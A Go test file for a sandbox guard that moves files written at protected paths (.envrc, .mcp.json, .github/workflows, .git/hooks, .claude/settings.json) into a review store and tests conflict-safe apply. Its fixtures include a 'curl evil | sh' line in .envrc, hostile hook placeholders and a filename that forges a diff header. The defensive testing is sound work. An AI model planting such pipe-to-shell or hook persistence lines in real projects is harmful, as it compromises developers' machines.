package changes

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentbox/agentbox/internal/inotify"
	"github.com/agentbox/agentbox/internal/plan"
	"golang.org/x/sys/unix"
)

// guarded returns a workspace and the guards of its absent protected paths used below.
func guarded(t testing.TB) (string, []plan.Guard) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	var gs []plan.Guard
	for _, g := range []struct {
		rel string
		dir bool
	}{{".mcp.json", false}, {".envrc", false}, {".vscode/settings.json", false}, {".github/workflows", true}} {
		gs = append(gs, plan.Guard{Path: filepath.Join(ws, g.rel), Dir: g.dir, Beneath: ws})
	}
	return ws, gs
}

func mustWrite(t testing.TB, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
}

// gone waits (bounded) until path no longer exists.
func gone(path string) bool {
	for i := 0; i < 500; i++ {
		if _, err := os.Lstat(path); errors.Is(err, os.ErrNotExist) {
			return true
		}
		time.Sleep(2 * time.Millisecond)
	}
	return false
}

// TestGuardMovesOut: what appears at a guarded path — a file, a file in a protected folder, a
// symlink on the way, a folder renamed into place — leaves the workspace and is kept in the
// store with what was written after it was created; ordinary files stay.
func TestGuardMovesOut(t *testing.T) {
	ws, gs := guarded(t)
	store := filepath.Join(t.TempDir(), "changes")
	g := startGuard(t, store, gs)

	// A file whose content is written after it was created (the inode is followed).
	f, err := os.OpenFile(filepath.Join(ws, ".mcp.json"), os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if !gone(filepath.Join(ws, ".mcp.json")) {
		t.Fatal(".mcp.json stayed in the workspace")
	}
	f.WriteString(`{"mcpServers":{"x":{"command":"evil"}}}`)
	f.Close()
	// A folder made elsewhere and renamed into place, holding a protected file.
	mustWrite(t, filepath.Join(ws, "tmp/settings.json"), `{"a":1}`, 0o644)
	if err := os.Rename(filepath.Join(ws, "tmp"), filepath.Join(ws, ".vscode")); err != nil {
		t.Fatal(err)
	}
	// A file in a protected folder the box creates; the folder stays. So does a folder made in
	// it, whose files are moved out too.
	mustWrite(t, filepath.Join(ws, ".github/workflows/evil.yml"), "on: push\n", 0o755)
	if err := os.MkdirAll(filepath.Join(ws, ".github/workflows/sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	time.Sleep(50 * time.Millisecond) // let the guard see the folder first (the test needs both orders)
	mustWrite(t, filepath.Join(ws, ".github/workflows/sub/x.yml"), "x\n", 0o644)
	// A symlink on the way to a protected file.
	if err := os.Symlink("elsewhere", filepath.Join(ws, ".envrc")); err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(ws, "main.go"), "package main\n", 0o644)
	for _, p := range []string{".vscode/settings.json", ".github/workflows/evil.yml", ".github/workflows/sub/x.yml", ".envrc"} {
		if !gone(filepath.Join(ws, p)) {
			t.Errorf("%s stayed in the workspace", p)
		}
	}
	if err := g.Close(); err != nil {
		t.Errorf("close: %v", err)
	}
	if _, err := os.Stat(filepath.Join(ws, "main.go")); err != nil {
		t.Errorf("an ordinary file was touched: %v", err)
	}
	if fi, err := os.Stat(filepath.Join(ws, ".github/workflows")); err != nil || !fi.IsDir() {
		t.Errorf("the protected folder itself should stay: %v", err)
	}
	cs, err := List(store)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, c := range cs {
		got[c.Path] = c.Kind + ":" + string(c.Content)
	}
	want := map[string]string{
		".mcp.json":                   `file:{"mcpServers":{"x":{"command":"evil"}}}`,
		".vscode/settings.json":       `file:{"a":1}`,
		".github/workflows/evil.yml":  "file:on: push\n",
		".github/workflows/sub/x.yml": "file:x\n",
		".envrc":                      "symlink:elsewhere",
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("store %s = %q, want %q", k, got[k], v)
		}
	}
	if len(got) != len(want) {
		t.Errorf("store holds %v, want %v", got, want)
	}
}

// TestApply: a change is applied where the host has nothing, and refused (nothing changed)
// where the host made the file meanwhile.
func TestApply(t *testing.T) {
	ws, gs := guarded(t)
	store := filepath.Join(t.TempDir(), "changes")
	mustWrite(t, filepath.Join(ws, ".mcp.json"), "{}\n", 0o644)
	mustWrite(t, filepath.Join(ws, ".github/workflows/ci.yml"), "on: push\n", 0o755)
	g, err := Open(store, gs, false)
	if err != nil {
		t.Fatal(err)
	}
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".mcp.json")); err == nil {
		t.Fatal("a single pass left .mcp.json")
	}
	// The host makes .mcp.json meanwhile: apply refuses and leaves the host's.
	mustWrite(t, filepath.Join(ws, ".mcp.json"), `{"host":true}`, 0o644)
	if err := Apply(store, ws, ".mcp.json"); !errors.Is(err, ErrConflict) {
		t.Errorf("apply over the host's file: %v, want ErrConflict", err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".mcp.json")); string(b) != `{"host":true}` {
		t.Errorf("the host's file became %q", b)
	}
	// A folder of changes is named by its files (review 32, B F8).
	if err := Apply(store, ws, ".github/workflows"); !errors.Is(err, ErrUnknown) || !strings.Contains(err.Error(), "is a folder") {
		t.Errorf("apply of a folder: %v, want ErrUnknown naming the folder", err)
	}
	if err := Apply(store, ws, ".github/workflows/ci.yml"); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(filepath.Join(ws, ".github/workflows/ci.yml"))
	if err != nil || fi.Mode().Perm() != 0o755 {
		t.Errorf("applied file: %v %v", fi, err)
	}
	cs, _ := List(store)
	if len(cs) != 1 || cs[0].Path != ".mcp.json" {
		t.Errorf("store after apply: %+v", cs)
	}
	if err := Apply(store, ws, "nothing"); !errors.Is(err, ErrUnknown) {
		t.Errorf("apply of an unknown path: %v", err)
	}
	if d := Diff(cs[0], []byte(`{"host":true}`)); !strings.Contains(d, "-{\"host\":true}") || !strings.Contains(d, "+{}") {
		t.Errorf("diff:\n%s", d)
	}
}

// TestApplyAppearsWhole: an applied new file appears at its path by a rename, complete and
// synced: nothing creates it empty there and then writes it (which the host's tools, git or an
// editor watching the folder, would read half written). Guards atomicfile.CreateAt in Apply; it
// failed when Apply created the file in place (IN_CREATE, IN_MODIFY, IN_CLOSE_WRITE on it).
func TestApplyAppearsWhole(t *testing.T) {
	ws, gs := guarded(t)
	store := filepath.Join(t.TempDir(), "changes")
	mustWrite(t, filepath.Join(ws, ".github/workflows/ci.yml"), strings.Repeat("on: push\n", 1000), 0o755)
	g, err := Open(store, gs, false)
	if err != nil {
		t.Fatal(err)
	}
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}
	fd, err := unix.InotifyInit1(unix.IN_NONBLOCK | unix.IN_CLOEXEC)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	if _, err := unix.InotifyAddWatch(fd, filepath.Join(ws, ".github/workflows"), unix.IN_ALL_EVENTS); err != nil {
		t.Fatal(err)
	}
	if err := Apply(store, ws, ".github/workflows/ci.yml"); err != nil {
		t.Fatal(err)
	}
	var movedTo bool
	buf := make([]byte, 64<<10)
	if err := inotify.Drain(fd, buf, func(ev inotify.Event) {
		if ev.Name != "ci.yml" {
			return
		}
		if ev.Mask&(unix.IN_CREATE|unix.IN_MODIFY|unix.IN_CLOSE_WRITE|unix.IN_OPEN) != 0 {
			t.Errorf("ci.yml was written at its path (inotify mask %#x)", ev.Mask)
		}
		movedTo = movedTo || ev.Mask&unix.IN_MOVED_TO != 0
	}); err != nil {
		t.Fatal(err)
	}
	if !movedTo {
		t.Error("ci.yml did not appear by a rename")
	}
	if b, err := os.ReadFile(filepath.Join(ws, ".github/workflows/ci.yml")); err != nil || string(b) != strings.Repeat("on: push\n", 1000) {
		t.Errorf("applied file: %d bytes, %v", len(b), err)
	}
	if ents, _ := os.ReadDir(filepath.Join(ws, ".github/workflows")); len(ents) != 1 {
		t.Errorf("the folder holds %d entries, want ci.yml alone", len(ents))
	}
}

// TestGuardAdd: a protected path that existed at launch and that the host removed is guarded
// from then on (Add): what is at it now and what the box makes there later — a file, a folder
// holding the file — leave the workspace for the store. The path is recorded in the store
// (Added), which List and Apply do not take for a change, and a single pass (the daemon's at
// exit) guards it from the record.
func TestGuardAdd(t *testing.T) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	store := filepath.Join(t.TempDir(), "changes")
	g, err := Open(store, nil, true)
	if err != nil {
		t.Fatal(err)
	}
	go g.Run()
	// The box wrote .envrc before the guard learned of the removal.
	mustWrite(t, filepath.Join(ws, ".envrc"), "curl evil | sh\n", 0o644)
	envrc := plan.Guard{Path: filepath.Join(ws, ".envrc"), Beneath: ws}
	settings := plan.Guard{Path: filepath.Join(ws, ".claude/settings.json"), Beneath: ws}
	for _, gd := range []plan.Guard{envrc, settings, envrc} {
		if err := g.Add(gd); err != nil {
			t.Fatalf("add %s: %v", gd.Path, err)
		}
	}
	if _, err := os.Lstat(envrc.Path); err == nil {
		t.Error(".envrc stayed in the workspace")
	}
	// The folder on the way is made afterwards, then the file in it.
	mustWrite(t, settings.Path, `{"hooks":"evil"}`, 0o644)
	if !gone(settings.Path) {
		t.Error(".claude/settings.json stayed in the workspace")
	}
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}
	cs, err := List(store)
	if err != nil || len(cs) != 2 || cs[0].Path != ".claude/settings.json" || cs[1].Path != ".envrc" || string(cs[1].Content) != "curl evil | sh\n" {
		t.Fatalf("store: %+v %v, want .claude/settings.json and .envrc, and not the record", cs, err)
	}
	added, err := Added(store)
	if err != nil || len(added) != 2 || added[0] != envrc || added[1] != settings {
		t.Fatalf("Added: %+v %v, want .envrc and .claude/settings.json once each", added, err)
	}
	if err := Apply(store, ws, AddedRecord); !errors.Is(err, ErrUnknown) {
		t.Errorf("apply of the record: %v, want ErrUnknown", err)
	}
	// The daemon's pass at exit, from the record: what a killed box-init left is moved out.
	mustWrite(t, envrc.Path, "late\n", 0o644)
	sweep, err := Open(store, added, false)
	if err != nil {
		t.Fatal(err)
	}
	if err := sweep.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(envrc.Path); err == nil {
		t.Error("the pass at exit left .envrc")
	}
	if b, _ := os.ReadFile(filepath.Join(store, ".envrc")); string(b) != "late\n" {
		t.Errorf("store .envrc after the pass at exit: %q", b)
	}
}

// TestGuardFolderRenamedAway: a folder on the way to a guarded path exists when the guard
// starts; it is renamed away and made again, and a protected file is written in the new one.
// The guard watches the folder above for the folder's name too, so the file leaves the
// workspace while the box runs, not only at the last pass (before, only the old folder was
// watched, and the file stayed until the launch ended).
func TestGuardFolderRenamedAway(t *testing.T) {
	ws, gs := guarded(t)
	mustWrite(t, filepath.Join(ws, ".vscode/extensions.json"), "{}\n", 0o644)
	g, err := Open(filepath.Join(t.TempDir(), "changes"), gs, true)
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	if err := g.Scan(); err != nil {
		t.Fatal(err)
	}
	go g.Run()
	if err := os.Rename(filepath.Join(ws, ".vscode"), filepath.Join(ws, "old")); err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(ws, ".vscode/settings.json"), `{"evil":1}`, 0o644)
	if !gone(filepath.Join(ws, ".vscode/settings.json")) {
		t.Error(".vscode/settings.json in a folder made again stayed in the workspace")
	}
}

// TestGuardStoreBounded (review 10, F3): a box that creates many files, or many large ones, in
// an absent protected folder cannot grow its launch's store without bound. Past MaxChanges
// changes, or MaxStore bytes, what it creates is still moved out of the workspace, and counted
// and named in the store's record (ReadDropped) instead of kept; the file that crosses the byte
// bound is kept truncated. Without the bound the store kept all 261 files and all 21 MiB.
func TestGuardStoreBounded(t *testing.T) {
	ws, gs := guarded(t)
	store := filepath.Join(t.TempDir(), "changes")
	wf := filepath.Join(ws, ".github/workflows")
	for i := 0; i < MaxChanges+5; i++ {
		mustWrite(t, filepath.Join(wf, fmt.Sprintf("f%03d.yml", i)), "on: push\n", 0o644)
	}
	g, err := Open(store, gs, false)
	if err != nil {
		t.Fatal(err)
	}
	if err := g.Close(); err == nil || !strings.Contains(err.Error(), "proposed changes are full") {
		t.Errorf("pass past the bound: %v, want the store full said", err)
	}
	if names, _ := os.ReadDir(wf); len(names) != 0 {
		t.Errorf("%d files left in the workspace's protected folder", len(names))
	}
	cs, err := Index(store)
	if err != nil || len(cs) != MaxChanges {
		t.Errorf("store holds %d changes (%v), want %d", len(cs), err, MaxChanges)
	}
	d, err := ReadDropped(store)
	if err != nil || d.Count != 5 || len(d.Paths) != 5 {
		t.Errorf("dropped: %+v %v, want the 5 past the bound", d, err)
	}
	for _, p := range d.Paths {
		if slices.ContainsFunc(cs, func(c Change) bool { return c.Path == p }) {
			t.Errorf("%s both kept and dropped", p)
		}
	}

	// Bytes: seven files of 3 MiB (in the order the folder lists them): five fit, the sixth
	// is kept truncated to what is left of MaxStore, the seventh is not kept.
	ws, gs = guarded(t)
	store = filepath.Join(t.TempDir(), "changes")
	big := strings.Repeat("x", 3<<20)
	for i := 0; i < 7; i++ {
		mustWrite(t, filepath.Join(ws, fmt.Sprintf(".github/workflows/big%d.yml", i)), big, 0o644)
	}
	if g, err = Open(store, gs, false); err != nil {
		t.Fatal(err)
	}
	g.Close()
	if cs, err = Index(store); err != nil {
		t.Fatal(err)
	}
	var total int64
	var truncated []Change
	for _, c := range cs {
		total += c.Size
		if c.Truncated {
			truncated = append(truncated, c)
		}
	}
	if total != MaxStore || len(cs) != 6 || len(truncated) != 1 || truncated[0].Size != MaxStore-5*(3<<20) {
		t.Fatalf("store: %d changes, %d bytes, truncated %+v; want 6 changes, %d bytes, one truncated", len(cs), total, truncated, MaxStore)
	}
	if d, _ := ReadDropped(store); d.Count != 1 || len(d.Paths) != 1 {
		t.Errorf("dropped: %+v, want one", d)
	}
	if err := Apply(store, ws, truncated[0].Path); err == nil || !strings.Contains(err.Error(), "truncated") {
		t.Errorf("apply of the truncated change: %v", err)
	}
}

// TestGuardReservedNames (review 10, F8): the store's own names cannot be forged by a box. A
// box file b.yml.agentbox-base beside b.yml made b.yml a change to an existing file, so that
// apply replaced the file the host made meanwhile; c.yml.agentbox-truncated made c.yml
// impossible to apply. Each is now a change of its own, applied as the box named it, and a
// newline in a name cannot forge a line of the diff.
func TestGuardReservedNames(t *testing.T) {
	ws, gs := guarded(t)
	store := filepath.Join(t.TempDir(), "changes")
	wf := filepath.Join(ws, ".github/workflows")
	forged := "ok.yml\n@@ -0,0 +1,1 @@\n+harmless"
	for name, content := range map[string]string{"b.yml": "box\n", "b.yml.agentbox-base": "x", "c.yml": "on: push\n",
		"c.yml.agentbox-truncated": "", ".d.yml.agentbox-tmp": "t\n", ".f.yml.tmp-12-3": "f\n", "e.agentbox-box": "e\n", "g.yml.agentbox-hidden": "", forged: "+x\n"} {
		mustWrite(t, filepath.Join(wf, name), content, 0o644)
	}
	g, err := Open(store, gs, false)
	if err != nil {
		t.Fatal(err)
	}
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}
	cs, err := List(store)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range cs {
		got = append(got, strings.TrimPrefix(c.Path, ".github/workflows/"))
		if c.Modifies || c.Truncated {
			t.Errorf("%q: modifies %v, truncated %v: a box file passed for the store's own", c.Path, c.Modifies, c.Truncated)
		}
		if d := Diff(c, nil); strings.Count(d, "\n@@") != 1 {
			t.Errorf("diff of %q holds other than one hunk header:\n%s", c.Path, d)
		}
	}
	if want := []string{".d.yml.agentbox-tmp", ".f.yml.tmp-12-3", "b.yml", "b.yml.agentbox-base", "c.yml", "c.yml.agentbox-truncated", "e.agentbox-box", "g.yml.agentbox-hidden", forged}; !slices.Equal(got, want) {
		t.Errorf("changes %q, want %q", got, want)
	}
	// The host makes b.yml with the content of the forged base: apply must not replace it.
	mustWrite(t, filepath.Join(wf, "b.yml"), "x", 0o644)
	if err := Apply(store, ws, ".github/workflows/b.yml"); !errors.Is(err, ErrConflict) {
		t.Errorf("apply of b.yml over the host's: %v, want ErrConflict", err)
	}
	if b, _ := os.ReadFile(filepath.Join(wf, "b.yml")); string(b) != "x" {
		t.Errorf("the host's b.yml became %q", b)
	}
	for _, name := range []string{"c.yml", "b.yml.agentbox-base", "e.agentbox-box"} {
		if err := Apply(store, ws, ".github/workflows/"+name); err != nil {
			t.Errorf("apply %s: %v", name, err)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(wf, "b.yml.agentbox-base")); string(b) != "x" {
		t.Errorf("applied b.yml.agentbox-base: %q", b)
	}
}

// TestDiffBounded (review 10, F3): a change of 4 MiB of NUL bytes was a 25 MB answer, past what
// the client reads. A file with a NUL byte is shown as binary, by size and hash; of a long text
// file the first MaxShown bytes are compared.
func TestDiffBounded(t *testing.T) {
	nul := Change{Path: "f.json", Kind: KindFile, Content: make([]byte, MaxFile)}
	d := Diff(nul, nil)
	if len(d) > 1024 || !strings.Contains(d, fmt.Sprintf("+(binary, %d bytes, sha256 ", MaxFile)) {
		t.Errorf("diff of %d NUL bytes: %d bytes: %.300q", MaxFile, len(d), d)
	}
	text := Change{Path: "g.yml", Kind: KindFile, Content: []byte(strings.Repeat("a\n", MaxFile/2))}
	d = Diff(text, nil)
	if len(d) > 3*MaxShown || !strings.Contains(d, fmt.Sprintf("compares the first %d bytes of the box's file: (text, %d bytes", MaxShown, MaxFile)) {
		t.Errorf("diff of a %d-byte text file: %d bytes, ending %q", MaxFile, len(d), d[max(0, len(d)-300):])
	}
}

// TestGuardLink guards review 10's finding F2 at the guard: a protected path that is a symlink
// (plan.Guard.Link) keeps the host's symlink. What the box puts in its place — a file after
// removing the link, a folder renamed over it — is moved into the store and the link is made
// again at once; a link the box only removed (here with its folder) is made again by the last
// pass. Before, a guarded path that existed was moved out itself, and nothing was restored.
func TestGuardLink(t *testing.T) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	links := map[string]string{".claude/settings.json": "../../dot/settings.json", ".git/hooks": "/nowhere/shared-hooks",
		".cargo/config.toml": "../tools/cargo.toml"}
	var gs []plan.Guard
	for rel, target := range links {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, rel)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, filepath.Join(ws, rel)); err != nil {
			t.Fatal(err)
		}
		gs = append(gs, plan.Guard{Path: filepath.Join(ws, rel), Beneath: ws, Link: target})
	}
	store := filepath.Join(t.TempDir(), "changes")
	g := startGuard(t, store, gs)
	isLink := func(rel string) bool {
		for i := 0; i < 500; i++ {
			if got, err := os.Readlink(filepath.Join(ws, rel)); err == nil && got == links[rel] {
				return true
			}
			time.Sleep(2 * time.Millisecond)
		}
		return false
	}
	for rel := range links {
		if !isLink(rel) {
			t.Fatalf("the guard's first pass changed the host's symlink %s", rel)
		}
	}
	// A file in place of the link (renamed over it: a link removed first is made again at once,
	// below, and a write then goes through it).
	mustWrite(t, filepath.Join(ws, "s.json"), `{"hooks":"evil"}`, 0o644)
	if err := os.Rename(filepath.Join(ws, "s.json"), filepath.Join(ws, ".claude/settings.json")); err != nil {
		t.Fatal(err)
	}
	if !isLink(".claude/settings.json") {
		t.Error(".claude/settings.json: the host's symlink was not made again while the guard ran")
	}
	// A folder holding a hook renamed into the link's place.
	mustWrite(t, filepath.Join(ws, "h/pre-commit"), "#!/bin/sh\nevil\n", 0o755)
	// The guard makes the deleted link again at once: the rename fails (not a directory) when
	// it came first, and the box tries again.
	for try := 0; ; try++ {
		os.Remove(filepath.Join(ws, ".git/hooks"))
		err := os.Rename(filepath.Join(ws, "h"), filepath.Join(ws, ".git/hooks"))
		if err == nil {
			break
		}
		if !errors.Is(err, syscall.ENOTDIR) || try == 1000 {
			t.Fatal(err)
		}
	}
	if !isLink(".git/hooks") {
		t.Error(".git/hooks: the host's symlink was not made again while the guard ran")
	}
	// The link removed, and nothing put there: made again on the removal's event, while the
	// guard runs (before, only at the pass something else started, or at Close).
	if err := os.Remove(filepath.Join(ws, ".cargo/config.toml")); err != nil {
		t.Fatal(err)
	}
	if !isLink(".cargo/config.toml") {
		t.Error(".cargo/config.toml: the host's symlink, removed, was not made again while the guard ran")
	}
	// The link and its folder removed (the guard may make the link again in the folder before it
	// goes: then the removal of the folder fails, which is what it should do).
	os.RemoveAll(filepath.Join(ws, ".cargo"))
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}
	for rel := range links {
		if got, err := os.Readlink(filepath.Join(ws, rel)); err != nil || got != links[rel] {
			t.Errorf("%s after the guard: %q, %v; want the host's symlink to %s", rel, got, err, links[rel])
		}
	}
	for rel, want := range map[string]string{".claude/settings.json": `{"hooks":"evil"}`, ".git/hooks/pre-commit": "#!/bin/sh\nevil\n"} {
		if b, err := os.ReadFile(filepath.Join(store, rel)); err != nil || string(b) != want {
			t.Errorf("proposed change %s: %q, %v; want the box's %q", rel, b, err, want)
		}
	}
}

// startGuard opens a watching guard of gs with its store at store, makes its first pass and
// starts its watch; the caller closes it.
func startGuard(t *testing.T, store string, gs []plan.Guard) *Guard {
	t.Helper()
	g, err := Open(store, gs, true)
	if err != nil {
		t.Fatal(err)
	}
	if err := g.Scan(); err != nil {
		t.Fatal(err)
	}
	go g.Run()
	return g
}
